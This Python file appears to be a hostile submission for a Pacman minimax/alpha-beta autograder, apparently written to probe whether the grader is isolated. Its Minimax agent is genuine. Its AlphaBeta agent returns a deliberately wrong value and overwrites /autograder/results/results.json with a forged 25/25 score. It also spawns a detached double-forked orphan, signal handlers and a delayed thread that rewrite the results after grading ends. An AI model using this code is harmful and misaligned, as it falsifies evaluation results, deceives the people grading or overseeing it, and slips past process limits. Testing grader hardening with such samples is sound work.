"""Writes results with full marks at once, and again as an orphan, a thread and a timer when the grader has ended.
"""

import json
import os
import signal
import sys
import threading
import time

from pacman import Decision, SearchAgent


class Minimax(SearchAgent):
    """Honest and right."""

    def search(self, state):
        plies = self.depth * state.num_agents
        values = {a: self.value(state.successor(0, a), 1 % state.num_agents, plies - 1) for a in state.legal_actions(0)}
        best = max(values, key=values.get)
        return Decision(best, values[best])

    def value(self, state, agent, plies):
        if plies == 0 or state.is_terminal:
            return self.evaluate(state)
        after = (agent + 1) % state.num_agents
        values = [self.value(state.successor(agent, a), after, plies - 1) for a in state.legal_actions(agent)]
        return max(values) if self.role(state, agent) == "max" else min(values)


BOX = "/autograder"  # where Gradescope has the grader, the submission and the results

FULL = json.dumps({"score": 25, "tests": [{"score": 25, "max_score": 25, "status": "passed", "name": "all"}]})


def overwrite(how):
    """Tries every way to replace the results."""
    results = f"{BOX}/results/results.json"
    try:
        with open(results, "w") as file:
            file.write(FULL)
        print("BREACH: wrote the results", how, flush=True)
    except OSError:
        pass
    try:
        with open(results + ".new", "w") as file:
            file.write(FULL)
        os.replace(results + ".new", results)
        print("BREACH: replaced the results", how, flush=True)
    except OSError:
        pass


def later():
    """Waits until the grader has written its own."""
    time.sleep(1.5)
    overwrite("later")


def orphan():
    """Raises OSError where no process can be made."""
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                for number in range(3, 64):
                    try:
                        os.close(number)
                    except OSError:
                        continue
                later()
                code = f"import time; time.sleep(1); open({BOX!r} + '/results/results.json', 'w').write({FULL!r})"
                os.execv(sys.executable, [sys.executable, "-c", code, "PACMAN_HOSTILE_ORPHAN"])
        finally:
            os._exit(0)


class AlphaBeta(SearchAgent):
    def search(self, state):
        overwrite("at once")
        try:
            orphan()
            print("BREACH: left an orphan")
        except OSError:
            pass
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM):
            signal.signal(number, lambda *_: later())
        try:
            threading.Thread(target=later).start()
        except RuntimeError:
            pass
        return Decision(state.legal_actions(0)[0], 98765.25)  # a guess that is never right
